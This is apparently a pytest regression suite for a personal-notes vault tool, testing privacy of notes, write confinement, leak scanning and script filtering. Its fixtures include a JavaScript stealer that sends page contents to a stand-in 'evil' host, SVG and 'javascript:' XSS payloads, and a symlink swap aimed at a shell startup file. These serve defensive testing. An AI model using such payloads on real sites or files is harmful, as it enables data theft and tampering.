"""Attacks on issue #14's fixes (privacy, confinement, the writer, the leak scan, script), as a
hostile input and a careless user would make them: each test is an attack that broke something,
kept so it stays fixed."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from vault_tools.cli import main
from vault_tools.parse import parse_note
from vault_tools.privacy import looks_private_front_matter
from vault_tools.site.build import build_site
from vault_tools.vault import find_vault
from vault_tools.writer import OutsideVaultWriteError, write_note

from .conftest import site_texts

SITE_CONFIG = """site_name: Private vault
docs_dir: notes
theme:
  name: material
plugins:
  - search
  - vault
"""

BLOCK = "<!-- vault-tools:related -->\nX\n<!-- /vault-tools:related -->\n"



# --- front matter: a tag YAML cannot honour ---------------------------------------------------


@pytest.mark.parametrize(
    "value", ["!!int abc", "!!bool maybe", "!!float x", "!!timestamp 2026-02-30"])
def test_a_tagged_value_yaml_cannot_build_is_a_yaml_error_on_its_line(value: str) -> None:
    # Issue #14 item 14: `!!int abc` raised ValueError out of the loader (PyYAML's constructors
    # raise plain errors): `check`, `fill`, `build` and `watch` all died with a traceback.
    note = parse_note("Bad.md", f"---\ntype: contact\nprivate: true\nx: {value}\n---\nhi\n")
    errors = [d for d in note.diagnostics if d.code == "yaml-error"]
    assert errors and errors[0].line == 4
    assert note.private  # its raw lines still say private


def test_check_reports_a_tagged_value_instead_of_crashing(make_vault) -> None:
    root = make_vault({"Bad.md": "---\nx: !!int abc\n---\nhi\n", "Good.md": "# Good\n"})
    result = CliRunner().invoke(main, ["check", "--vault", str(root)])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert "Bad.md" in result.output and "yaml-error" in result.output


# --- privacy: front matter YAML refused, written as a flow mapping or a list -------------------


@pytest.mark.parametrize("front", [
    "{private: true, tags: [x}",       # a flow mapping, broken
    "tags: {private: true",            # a key inside a flow value, unclosed
    "- private: true\n- [",            # a list item
    "? private\n: true\nx: [",         # a complex key, its value on the next line
    "{Private: false, x: [}",          # the key in another case
    'private: "false"\nx: [',          # a quoted "false" is a string to YAML: private
    "publish: 'true'\nx: [",
    "private: false, maybe\nx: [",     # in block style the comma is part of the value
])
def test_a_front_matter_yaml_refuses_that_says_private_in_flow_style_is_private(front: str) -> None:
    # The raw check read only `key: value` at a line's start: `{private: true, ...}` with a
    # typo published the whole note (its name on every page that links it, its text on its page).
    text = f"---\n{front}\n---\n# Someone\n\nA secret.\n"
    assert looks_private_front_matter(text)
    assert parse_note("contacts/Someone.md", text).private


@pytest.mark.parametrize("front", [
    "{private: false, x: [}", "private: false\nx: [", "note: nothing private here\nx: [",
    "{x: 1, private: false}\ny: [", "private: false  # for now\nx: [", "title: a, b\nx: [",
])
def test_a_clear_private_false_in_refused_yaml_stays_public(front: str) -> None:
    assert not looks_private_front_matter(f"---\n{front}\n---\nbody\n")


@pytest.mark.slow
def test_a_private_note_with_broken_flow_front_matter_reaches_no_page(make_vault) -> None:
    root = make_vault({
        "contacts/Flowbroke Person.md":
            "---\n{private: true, type: contact, tags: [x}\n---\n# Flowbroke Person\n\nPlover.\n",
        "contacts/Pub.md": "---\ntype: contact\n---\n# Pub\n\nMet [[Flowbroke Person]].\n",
    })
    (root / "mkdocs.yml").write_text(SITE_CONFIG, encoding="utf-8")
    site = build_site(find_vault(root))
    leaked = [rel for rel, text in site_texts(site).items()
              if "Flowbroke" in text or "Plover" in text or "Flowbroke" in rel]
    assert not leaked


# --- privacy: a private note the tool cannot decode ------------------------------------------


@pytest.mark.slow
def test_a_private_note_saved_as_utf16_has_its_name_on_no_page(make_vault) -> None:
    # A UTF-16 note is "not UTF-8" and indexed by name only, as public: its name was listed on
    # All notes, in the search index and as a link on every page linking it, though the note
    # says `private: true` (Windows Notepad's "Unicode" saves exactly this).
    secret = "---\ntype: contact\nprivate: true\n---\n# Utf Sixteen\n".encode("utf-16")
    root = make_vault({
        "contacts/Utf Sixteen.md": secret,
        "contacts/Pub.md": "---\ntype: contact\n---\n# Pub\n\nMet [[Utf Sixteen]].\n",
    })
    (root / "mkdocs.yml").write_text(SITE_CONFIG, encoding="utf-8")
    site = build_site(find_vault(root))
    leaked = [rel for rel, text in site_texts(site).items() if "Sixteen" in text]
    assert not leaked
    assert (root / "notes" / "contacts" / "Utf Sixteen.md").read_bytes() == secret  # untouched


# --- the writer: a symlink turned outside while a write retries -------------------------------


def test_a_link_turned_outside_between_two_tries_is_never_written(tmp_path: Path) -> None:
    # The confinement check ran once, before the §6 loop; a retry (the user saved meanwhile)
    # resolved the link again and wrote wherever it pointed by then: ~/.bashrc got a block.
    notes = tmp_path / "notes"
    notes.mkdir()
    outside = tmp_path / "bashrc"
    outside.write_text("export PATH=/bin\n")
    inner = notes / "real.md"
    inner.write_text("hello\n")
    link = notes / "x.md"
    link.symlink_to(inner)
    calls: list[str] = []

    def transform(text: str) -> str:
        calls.append(text)
        if len(calls) == 1:  # while we work: the user saves, and the link is turned outside
            with open(inner, "a") as file:
                file.write("user saved\n")
            os.remove(link)
            link.symlink_to(outside)
        return text + BLOCK

    with pytest.raises(OutsideVaultWriteError):
        write_note(link, transform, notes_dir=notes)
    assert outside.read_text() == "export PATH=/bin\n"
    assert inner.read_text() == "hello\nuser saved\n"


# --- script: a web page or scripted SVG among the attachments --------------------------------


@pytest.mark.slow
def test_a_saved_web_page_or_scripted_svg_is_not_published_but_a_plain_svg_is(make_vault) -> None:
    # A web clipper's saved page was copied to the site as it was: opened there, it is a
    # document on the site's own origin that no policy of ours covers, and its script can read
    # every page. An SVG opened on its own is such a document too.
    stealer = ("<script>fetch('/contacts/').then(r => r.text())"
               ".then(t => new Image().src = 'http://evil/?' + t)</script>")
    root = make_vault({
        "clip.html": f"<html><body>{stealer}</body></html>",
        "Job Posting.htm": stealer,
        "logo.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "badge.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "link.svg": '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)">'
                    '<rect/></a></svg>',
        "plain.svg": '<svg xmlns="http://www.w3.org/2000/svg"><defs><linearGradient id="a"/>'
                     '</defs><use xlink:href="#a"/><rect fill="url(#a)"/></svg>',
        "Acme.md": "# Acme\n\n![[plain.svg]] [clip](clip.html)\n",
    })
    (root / "mkdocs.yml").write_text(SITE_CONFIG, encoding="utf-8")
    site = build_site(find_vault(root))
    published = {p.name for p in site.iterdir()}
    assert "plain.svg" in published
    assert not published & {"clip.html", "Job Posting.htm", "logo.svg", "badge.svg", "link.svg"}
    assert not [rel for rel, text in site_texts(site).items() if "evil/?" in text]


# --- a FIFO named like a note ------------------------------------------------------------------


def _in_thread(work, timeout: float = 60.0):
    """Run `work()` in a thread; return (finished, result or exception)."""
    import threading

    box: list[object] = []

    def run() -> None:
        try:
            box.append(work())
        except BaseException as exc:  # handed to the test
            box.append(exc)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(timeout)
    return (not thread.is_alive()), (box[0] if box else None)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_named_like_a_note_is_reported_not_waited_on_forever(make_vault) -> None:
    # `mkfifo notes/x.md` (or a tool's named pipe left in the vault): opening it for reading
    # waits for a writer, so `check`, `fill`, `build` and `watch` hung without a word.
    root = make_vault({"A.md": "# A\n\nSee [[Pipe]].\n"})
    os.mkfifo(root / "notes" / "Pipe.md")
    for command in ("check", "fill"):
        finished, result = _in_thread(
            lambda command=command: CliRunner().invoke(main, [command, "--vault", str(root)]))
        assert finished, f"{command} hangs on a FIFO"
        assert "Pipe.md" in result.output and "not a regular file" in result.output


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_note_replaced_by_a_fifo_while_written_is_left_alone(tmp_path: Path) -> None:
    notes = tmp_path / "notes"
    notes.mkdir()
    note = notes / "n.md"
    note.write_text("hi\n")
    calls: list[str] = []

    def transform(text: str) -> str:
        calls.append(text)
        if len(calls) == 1:  # while we work, the note becomes a FIFO: a retry opens it
            os.remove(note)
            os.mkfifo(note)
        return text + BLOCK

    finished, result = _in_thread(lambda: write_note(note, transform, notes_dir=notes))
    assert finished, "the writer waits forever on a FIFO"
    assert isinstance(result, Exception) and "not a regular file" in str(result)


# --- the leak scan: characters a browser shows as nothing -----------------------------------


@pytest.mark.parametrize("hidden", ["&shy;", "\u00ad", "\u200b", "&#x200B;", "\u2060", "\ufeff"])
def test_a_name_split_by_an_invisible_character_is_still_found(tmp_path: Path, hidden: str) -> None:
    # `Re&shy;nata Silva` (a soft hyphen, as names copied from web pages carry) or a zero-width
    # space reads as "Renata Silva" on the page, but split the word for the scan: it passed.
    from vault_tools.privacy import Secret
    from vault_tools.site.leaks import scan_site

    site = tmp_path / "site"
    site.mkdir()
    (site / "a.html").write_text(f"<p>We met Re{hidden}nata Silva.</p>", encoding="utf-8")
    (site / "b.html").write_text(f'<a title="Renata Sil{hidden}va">x</a>', encoding="utf-8")
    secret = Secret("Renata Silva", "name", "contacts/Renata Silva.md", whole_word=True)
    assert sorted(leak.file for leak in scan_site(site, [secret])) == ["a.html", "b.html"]


@pytest.mark.slow
def test_a_build_that_shows_a_private_name_with_a_soft_hyphen_fails(make_vault) -> None:
    from vault_tools.site.build import SiteError

    root = make_vault({
        "contacts/Renata Silva.md": "---\ntype: contact\nprivate: true\n---\n# Renata Silva\n",
        "contacts/Pub.md": "---\ntype: contact\n---\n# Pub\n\nLunch with Re&shy;nata Silva.\n",
    })
    (root / "mkdocs.yml").write_text(SITE_CONFIG, encoding="utf-8")
    with pytest.raises(SiteError, match="Renata Silva"):
        build_site(find_vault(root))


# --- privacy: a key that looks like `private` ------------------------------------------------


@pytest.mark.parametrize("key", ["private\u200b", "\u200bprivate", "pri\u00advate", "\ufeffprivate",
                                 "private\u200e"])
@pytest.mark.parametrize("broken", [False, True])
def test_private_with_an_invisible_character_in_the_key_is_private(key: str, broken: bool) -> None:
    # A key pasted from a web page or a chat with a zero-width space or a soft hyphen looks like
    # `private: true` in every editor, but was another key: the note was published.
    text = f"---\n{key}: true\n{'tags: [x' if broken else 'type: contact'}\n---\n# Secret\n"
    note = parse_note("contacts/Secret.md", text)
    assert note.private
    if not broken and "private" not in note.meta:  # (YAML itself drops a leading BOM)
        assert any("shown as nothing" in d.message for d in note.diagnostics)


_TAGS = ["!!int", "!!float", "!!bool", "!!null", "!!timestamp", "!!binary", "!!set", "!!omap",
         "!!pairs", "!!str", "!!seq", "!!map", "!!python/object", "!custom", "!"]


@settings(max_examples=150, deadline=None)
@given(tag=st.sampled_from(_TAGS),
       value=st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)
       | st.sampled_from(["abc", "maybe", "2026-02-30", "1e400", "[1, 2]", "{a: 1}", "-", "~",
                          "=", "0x", "***", "&a", "*a"]))
def test_any_tagged_value_is_read_or_reported_never_raised(tag: str, value: str) -> None:
    # The class of #14 item 14: every explicit tag on any value gives a note (maybe with a
    # yaml-error on the value's line), and a note that says private stays private.
    line = value.replace("\n", " ").replace("\r", " ")
    note = parse_note("contacts/X.md", f"---\nprivate: true\nx: {tag} {line}\n---\n# X\n")
    assert note.private
    for diag in note.diagnostics:
        if diag.code == "yaml-error":
            assert diag.line in (1, 2, 3, 4)


_VISIBILITY_LINES = st.sampled_from(["private", "Private", "'private'", '"private"', "publish",
                                     "draft", "DRAFT"])
_VALUES = st.sampled_from(["true", "false", "yes", "no", "'false'", '"true"', "", "~", "1",
                           "maybe", "false, x", "[false]", "!!str false", "False"])
_STYLES = st.sampled_from(["{k}: {v}", "{{{k}: {v}}}", "{{x: 1, {k}: {v}}}", "- {k}: {v}",
                           "? {k}\n: {v}", "{k} :  {v}  # note", "x: 1\n{k}: {v}"])


@settings(max_examples=300, deadline=None)
@given(key=_VISIBILITY_LINES, value=_VALUES, style=_STYLES,
       breaker=st.sampled_from(["z: [", "\tz: 1", "z: !!int q", "z: {"]))
def test_a_private_note_stays_private_when_its_yaml_breaks(
        key: str, value: str, style: str, breaker: str) -> None:
    # The raw reader (for front matter YAML refused) and YAML must agree on every note YAML
    # reads as private: one typo elsewhere in the front matter must not publish it.
    front = style.format(k=key, v=value)
    whole = parse_note("a.md", f"---\n{front}\n---\nbody\n")
    if whole.private and not any(d.code == "yaml-error" for d in whole.diagnostics):
        assert parse_note("a.md", f"---\n{front}\n{breaker}\n---\nbody\n").private


# --- privacy: a private note too large to read --------------------------------------------------


@pytest.mark.slow
def test_a_private_note_too_large_to_read_has_its_name_on_no_page(make_vault) -> None:
    # A note above the size limit is not read: it was indexed by name as a public note, so its
    # name was on All notes, in the search index and on every page linking it.
    from vault_tools.vault import MAX_NOTE_BYTES

    huge = "---\ntype: contact\nprivate: true\n---\n# Huge\n\n" + "big words " * (
        MAX_NOTE_BYTES // 10 + 1)
    root = make_vault({
        "contacts/Huge Secretname.md": huge,
        "contacts/Pub.md": "---\ntype: contact\n---\n# Pub\n\nMet [[Huge Secretname]].\n",
    })
    (root / "mkdocs.yml").write_text(SITE_CONFIG, encoding="utf-8")
    site = build_site(find_vault(root))
    assert not [rel for rel, text in site_texts(site).items() if "Secretname" in text]


# --- the leak scan: what a failed build leaves behind -----------------------------------------


@pytest.mark.slow
def test_a_failed_build_leaves_no_folder_named_after_a_private_person(make_vault) -> None:
    # A public interview named after a private contact fails the build, and its page is
    # deleted, but the page's folder stayed: `site/interviews/2026-01-01 Zorblat Quimby/`, a
    # private name in the site folder that a deploy step copies as it is.
    from vault_tools.site.build import SiteError

    root = make_vault({
        "contacts/Zorblat Quimby.md": "---\ntype: contact\nprivate: true\n---\n# Zorblat Quimby\n",
        "interviews/2026-01-01 Zorblat Quimby.md":
            '---\ntype: interview\ndate: 2026-01-01\nwith: "[[Zorblat Quimby]]"\n---\nTalked.\n',
        "contacts/Pub.md": "---\ntype: contact\n---\n# Pub\n",
    })
    (root / "mkdocs.yml").write_text(SITE_CONFIG, encoding="utf-8")
    with pytest.raises(SiteError, match="Zorblat Quimby"):
        build_site(find_vault(root))
    site = root / "site"
    assert not [p for p in site.rglob("*") if "Zorblat" in p.name]
    assert (site / "contacts" / "Pub" / "index.html").is_file()  # the rest stays


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="leases are Linux's")
def test_a_note_under_another_writers_lease_is_read_once_it_is_let_go(tmp_path: Path) -> None:
    # The FIFO fix opens notes without blocking; a regular note another writer holds a write
    # lease on (vault-tools rewriting a hard-linked note in place) must still be waited for,
    # as a blocking open waits, not reported unreadable.
    import threading
    import time

    from vault_tools import writer
    from vault_tools.vault import Vault, read_file

    notes = tmp_path / "notes"
    notes.mkdir()
    note = notes / "a.md"
    note.write_text("# A\n")
    vault = Vault(root=tmp_path, notes_dir=notes, config_file=None, options={})
    fd = os.open(note, os.O_RDWR)
    try:
        if writer._take_lease(fd, writer._F_WRLCK) != "taken":
            pytest.skip("no write lease here")
        found: list[object] = []
        reader = threading.Thread(target=lambda: found.append(read_file(vault, "a.md")))
        reader.start()
        deadline = time.monotonic() + 30
        while not writer._lease_broken(fd, writer._F_WRLCK) and reader.is_alive():
            assert time.monotonic() < deadline
            time.sleep(0.01)
        writer._release_lease(fd)
    finally:
        os.close(fd)
    reader.join(30)
    assert found == [b"# A\n"]


@pytest.mark.slow
def test_a_link_by_the_alias_of_a_private_note_with_broken_yaml_shows_no_alias(
        make_vault) -> None:
    # YAML refused the private note's front matter, so its aliases were unknown: a public
    # note's [[Ren the Quiet]] was a broken link shown as its text, and the scan, not knowing
    # the alias either, let it through.
    root = make_vault({
        "contacts/Renata Silva.md": "---\ntype: contact\nprivate: true\n"
                                    "aliases: [Ren the Quiet]\ntags: [oops\n---\n# Renata\n",
        "contacts/Pub.md": "---\ntype: contact\n---\n# Pub\n\nMet [[Ren the Quiet]] today.\n",
    })
    (root / "mkdocs.yml").write_text(SITE_CONFIG, encoding="utf-8")
    site = build_site(find_vault(root))
    assert not [rel for rel, text in site_texts(site).items() if "the Quiet" in text]
    assert parse_note("contacts/Renata Silva.md",
                      (root / "notes/contacts/Renata Silva.md").read_text()).aliases == (
        "Ren the Quiet",)


@pytest.mark.parametrize("breaker", ["\x85", "\u2028", "\u2029"])
def test_a_yaml_line_break_inside_a_value_does_not_shift_the_lines_reported(breaker: str) -> None:
    # YAML ends lines at NEL, LS and PS too; the note's lines do not. A problem found after such
    # a character must still name the line the user wrote it on, inside the front matter.
    bad = parse_note("contacts/X.md", f"---\nrole: a{breaker}b\nx: !!int q\n---\n# X\n")
    assert [(d.code, d.line) for d in bad.diagnostics if d.code == "yaml-error"] == [
        ("yaml-error", 3)]
    twice = parse_note("contacts/X.md", f'---\nrole: "a{breaker}b"\nrole: c\n---\n# X\n')
    assert [(d.code, d.line) for d in twice.diagnostics if d.code == "duplicate-key"] == [
        ("duplicate-key", 3)]
